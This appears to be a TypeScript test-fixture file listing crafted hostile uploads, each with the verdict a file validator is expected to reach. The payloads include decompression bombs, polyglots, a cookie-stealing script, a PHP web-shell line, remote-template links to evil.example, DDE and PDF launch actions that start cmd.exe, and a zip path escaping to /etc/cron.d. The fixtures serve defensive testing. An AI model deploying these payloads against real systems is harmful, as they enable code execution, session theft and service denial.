import { constants, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { eicar, officeFile, openDocument, packedObjects, pdf, relationTo, zipOf } from './documents.ts'
import { crowdedJpeg, crowdedWebp, jpeg, movingPng, movingWebp, png, webp } from './pictures.ts'

/** What has to become of it: refused for this reason, or taken as this kind with nothing of the trick left. */
export type HostileFile = {
  title: string
  name: string
  bytes: () => Buffer
  becomes: { fault: string } | { kind: string }
}

const script = '<script>alert(document.cookie)</script>'
const php = '<?php system($_GET["c"]); ?>'
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_048_576)

/** What deflating so many zeros comes to, without ever having them. */
function packedZeros(megabytes: number): Buffer {
  const block = deflateRawSync(zeros(1), { finishFlush: constants.Z_FULL_FLUSH })
  return Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array<Buffer>(megabytes).fill(block),
    Buffer.from([3, 0]),
  ])
}

function gif(frames: number, width = 1, height = 1, extra = Buffer.alloc(0)): Buffer {
  const head = Buffer.from('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1')
  head.writeUInt16LE(width, 6)
  head.writeUInt16LE(height, 8)
  const frame = Buffer.from('\x2c\0\0\0\0\0\0\0\0\0\x02\x02\x44\x01\0', 'latin1')
  frame.writeUInt16LE(width, 5)
  frame.writeUInt16LE(height, 7)
  return Buffer.concat([head, extra, ...Array<Buffer>(frames).fill(frame), Buffer.from(';')])
}

function isoMedia(brand: string, rest: Buffer): Buffer {
  const box = Buffer.alloc(24)
  box.writeUInt32BE(24)
  box.write(`ftyp${brand}\0\0\0\0${brand}mif1`, 4, 'latin1')
  return Buffer.concat([box, rest])
}

/** Changes a field of the first directory entry of a zip: where it says how large the entry is, or where it lies. */
function withDirectoryField(zip: Buffer, entry: number, offset: number, value: number): Buffer {
  let at = zip.indexOf(Buffer.from('PK\x01\x02', 'latin1'))
  for (let skipped = 0; skipped < entry; skipped += 1)
    at = zip.indexOf(Buffer.from('PK\x01\x02', 'latin1'), at + 4)
  zip.writeUInt32LE(value, at + offset)
  return zip
}

/** Two entries of the directory that lie on the same bytes. */
function overlapping(): Buffer {
  const zip = officeFile('docx', { 'a.xml': 'x'.repeat(99), 'b.xml': 'x'.repeat(99) })
  const mark = Buffer.from('PK\x01\x02', 'latin1')
  const other = zip.lastIndexOf(mark)
  const one = zip.lastIndexOf(mark, other - 1)
  zip.writeUInt32LE(zip.readUInt32LE(one + 42), other + 42)
  zip.write('a.xml', other + 46, 'latin1')
  return zip
}

const jar = () => zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: X', 'X.class': 'cafebabe' })
const text = (title: string, name: string, content: string | Buffer, error: string): HostileFile => ({
  title,
  name,
  bytes: () => Buffer.from(content),
  becomes: { fault: error },
})
const refused = (title: string, name: string, error: string, bytes: () => Buffer): HostileFile => ({
  title,
  name,
  bytes,
  becomes: { fault: error },
})
const taken = (title: string, name: string, kind: string, bytes: () => Buffer): HostileFile => ({
  title,
  name,
  bytes,
  becomes: { kind },
})
const rels = 'word/_rels/document.xml.rels'

export const hostileFiles: HostileFile[] = [
  // bombs
  refused('a PNG of 900 million pixels', 'sky.png', 'too-many-pixels', () => png(30_000, 30_000)),
  refused('a PNG that is 4 billion pixels wide', 'line.png', 'broken', () => png(0xffffffff, 1)),
  refused('a PNG of 40 million pixels too many for its bytes', 'half.png', 'broken', () => png(6_000, 6_000)),
  refused('a GIF with a canvas of 4 billion pixels', 'wall.gif', 'too-many-pixels', () =>
    gif(1, 65_535, 65_535),
  ),
  refused('a GIF of 5,000 frames', 'film.gif', 'moving', () => gif(5_000)),
  refused('a GIF of 200,000 empty notes', 'notes.gif', 'broken', () =>
    gif(1, 1, 1, Buffer.from('\x21\xfe\0'.repeat(200_000), 'latin1')),
  ),
  refused('a JPEG of 2 million empty notes', 'notes.jpg', 'broken', crowdedJpeg),
  taken('a JPEG with a little note', 'one.jpg', 'picture', () => jpeg()),
  refused('a WebP of a million empty chunks', 'chunks.webp', 'broken', crowdedWebp),
  refused('a WebP that moves', 'film.webp', 'moving', movingWebp),
  refused('a PNG that moves', 'film.png', 'moving', movingPng),
  refused('an AVIF that moves', 'film.avif', 'moving', () => isoMedia('avis', zeros(1))),
  refused('an AVIF of nothing but zeros', 'zeros.avif', 'broken', () => isoMedia('avif', zeros(2))),
  refused('a document that says it unpacks to 900 MB', 'flat.docx', 'bomb', () =>
    withDirectoryField(officeFile('docx'), 0, 24, 900 * 1_048_576),
  ),
  refused('a document of which one entry packs a thousand times', 'a.xlsx', 'bomb', () =>
    officeFile('xlsx', { 'xl/sheet.bin': zeros(20) }),
  ),
  refused('a document that says it is smaller than it is', 'lies.docx', 'bomb', () =>
    withDirectoryField(officeFile('docx', { 'z.xml': zeros(5) }), 3, 24, 1_000),
  ),
  refused('a document whose entries lie on each other', 'twice.docx', 'bomb', overlapping),
  refused('a document of 3,000 entries', 'many.docx', 'bomb', () =>
    officeFile('docx', Object.fromEntries(Array.from({ length: 3_000 }, (_, at) => [`w/${at}.xml`, '<a/>']))),
  ),
  refused('a document in a document in a document', 'dolls.pptx', 'bomb', () =>
    officeFile('pptx', {
      'ppt/embeddings/a.xlsx': officeFile('xlsx', { 'xl/embeddings/b.docx': officeFile('docx') }),
    }),
  ),
  refused('a billion laughs', 'laughs.docx', 'active', () =>
    officeFile('docx', {
      'word/document.xml': '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
    }),
  ),
  refused('a PDF whose stream unpacks to 400 MB', 'flat.pdf', 'bomb', () =>
    pdf([{ dictionary: '/Filter /FlateDecode', stream: packedZeros(400) }]),
  ),
  refused('a PDF whose objects unpack to 40 MB', 'objects.pdf', 'bomb', () =>
    pdf([{ dictionary: '/Type /ObjStm /Filter /FlateDecode', stream: packedZeros(40) }]),
  ),
  refused('a PDF that is packed twice', 'twice.pdf', 'bomb', () =>
    pdf([{ dictionary: '/Filter [/FlateDecode /FlateDecode]', stream: deflateSync(packedZeros(100)) }]),
  ),
  refused('a gzip', 'notes.txt', 'unknown-kind', () => gzipSync(zeros(1))),
  // two things at once
  refused('a GIF with a program behind it (GIFAR)', 'logo.gif', 'broken', () =>
    Buffer.concat([gif(0), jar()]),
  ),
  taken('a whole GIF with a program behind it', 'logo.gif', 'picture', () => Buffer.concat([gif(1), jar()])),
  taken('a JPEG with a script behind it', 'me.jpg', 'picture', () =>
    Buffer.concat([jpeg(), Buffer.from(`*/=alert(1)//${script}`)]),
  ),
  taken('a PNG with PHP behind it', 'me.png.php', 'picture', () => Buffer.concat([png(), Buffer.from(php)])),
  taken('a WebP with a page behind it', 'me.html', 'picture', () =>
    Buffer.concat([webp(), Buffer.from(script)]),
  ),
  refused('a PDF with a page before it', 'page.pdf', 'web-page', () =>
    Buffer.concat([Buffer.from('<html>'), pdf()]),
  ),
  refused('a PDF with a page in its first lines', 'page.pdf', 'web-page', () => pdf([`(${script})`])),
  refused('a PDF with a program behind it', 'jar.pdf', 'hidden-data', () => Buffer.concat([pdf(), jar()])),
  refused('a document with a page before it', 'page.docx', 'web-page', () =>
    Buffer.concat([Buffer.from(script), officeFile('docx')]),
  ),
  refused('a document with words behind it', 'tail.docx', 'hidden-data', () =>
    Buffer.concat([officeFile('docx'), Buffer.from(script)]),
  ),
  refused('a document that has another name inside', 'twins.docx', 'hidden-data', () => {
    const zip = officeFile('docx')
    zip.write('evil.exe', zip.lastIndexOf('main.xml'), 'latin1')
    return zip
  }),
  refused('a program as a document', 'game.docx', 'unknown-kind', jar),
  // what acts by itself
  refused('a document with macros', 'letter.docm', 'macros', () =>
    officeFile('docx', { 'word/vbaProject.bin': 'x' }),
  ),
  refused('a document that only says it has macros', 'letter.docx', 'macros', () =>
    officeFile('docx', {
      '[Content_Types].xml':
        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
  ),
  refused('a sheet in a document, with macros', 'chart.pptx', 'macros', () =>
    officeFile('pptx', { 'ppt/embeddings/a.xlsx': officeFile('xlsx', { 'xl/vbaProject.bin': 'x' }) }),
  ),
  refused('a sheet with old macros', 'old.xlsx', 'macros', () =>
    officeFile('xlsx', { 'xl/macrosheets/sheet1.xml': '<a/>' }),
  ),
  refused('a document with an object of another program', 'ole.docx', 'macros', () =>
    officeFile('docx', { 'word/embeddings/oleObject1.bin': 'x' }),
  ),
  refused('an OpenDocument with macros', 'letter.odt', 'macros', () =>
    openDocument({ 'Basic/Standard/Module1.xml': '<a/>' }),
  ),
  refused('a sheet that reads other sheets', 'links.xlsx', 'outside-links', () =>
    officeFile('xlsx', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }),
  ),
  refused('a document with a template from elsewhere', 'template.docx', 'outside-links', () =>
    officeFile('docx', { [rels]: relationTo('attachedTemplate', 'http://evil.example/t.dotm') }),
  ),
  refused('a document with a picture from elsewhere', 'pixel.docx', 'outside-links', () =>
    officeFile('docx', { [rels]: relationTo('image', 'http://evil.example/pixel.png') }),
  ),
  refused('a document that starts a program', 'dde.docx', 'outside-links', () =>
    officeFile('docx', { 'word/document.xml': '<p>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</p>' }),
  ),
  refused('a PDF with a script', 'script.pdf', 'active', () =>
    pdf([], '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
  ),
  refused('a PDF with a script among packed objects', 'packed.pdf', 'active', () =>
    pdf([packedObjects('<< /S /JavaScript /JS (app.alert(1)) >>')]),
  ),
  refused('a PDF with a script that is spelled oddly', 'odd.pdf', 'active', () =>
    pdf([], '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
  ),
  refused('a PDF that starts a program', 'launch.pdf', 'active', () =>
    pdf([], '/OpenAction << /S /Launch /F (cmd.exe) >>'),
  ),
  refused('a PDF with a file inside', 'inside.pdf', 'active', () =>
    pdf([], '/Names << /EmbeddedFiles 9 0 R >>'),
  ),
  refused('a PDF behind a password', 'locked.pdf', 'locked', () => pdf([], '', '/Encrypt 9 0 R')),
  // what it says it is
  text('a page as a PNG', 'me.png', `<!doctype html>${script}`, 'web-page'),
  text(
    'a drawing with a script',
    'logo.svg',
    `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
    'web-page',
  ),
  text('a drawing with a script as a JPEG', 'logo.jpg', `\ufeff \n<svg onload="alert(1)"/>`, 'web-page'),
  text('PHP as a table', 'table.csv', php, 'web-page'),
  text('a page in UTF-16', 'page.txt', Buffer.from(`\ufeff<html>${script}`, 'utf16le'), 'web-page'),
  text('a page behind a comment', 'page.txt', `<!-- -->${script}`, 'web-page'),
  text(
    'a program for Windows as a PDF',
    'form.pdf',
    Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'),
    'unknown-kind',
  ),
  text(
    'a program for Linux as text',
    'notes.txt',
    Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'),
    'unknown-kind',
  ),
  text(
    'an old document of Word',
    'old.doc',
    Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'),
    'old-office',
  ),
  text('a rich text with an object', 'rich.doc', '{\\rtf1{\\object\\objdata 0105}}', 'old-office'),
  text('a photo of an iPhone', 'IMG_1.jpg', isoMedia('heic', zeros(1)), 'heic'),
  text('a table in another encoding', 'names.csv', Buffer.from('Zo\xeb,Year 11', 'latin1'), 'not-utf-8'),
  text('a table with a NUL', 'names.csv', 'Zoe\0,Year 11', 'unknown-kind'),
  text('nothing', 'nothing.txt', '', 'empty'),
  text('the test file for virus scanners', 'eicar.txt', eicar, 'virus'),
  refused('the test file for virus scanners in a picture', 'me.png', 'virus', () =>
    Buffer.concat([png(), Buffer.from(eicar)]),
  ),
  // cut short
  refused('half a PNG', 'half.png', 'broken', () => png().subarray(0, 60)),
  refused('half a PDF', 'half.pdf', 'broken', () => pdf().subarray(0, 120)),
  refused('half a document', 'half.docx', 'broken', () => officeFile('docx').subarray(0, 200)),
  refused('a document whose directory leads nowhere', 'lost.docx', 'broken', () =>
    withDirectoryField(officeFile('docx'), 0, 42, 0x7fffffff),
  ),
  refused('a document that climbs out of its folder', 'climb.docx', 'broken', () =>
    officeFile('docx', { '../../etc/cron.d/x': 'x' }),
  ),
]
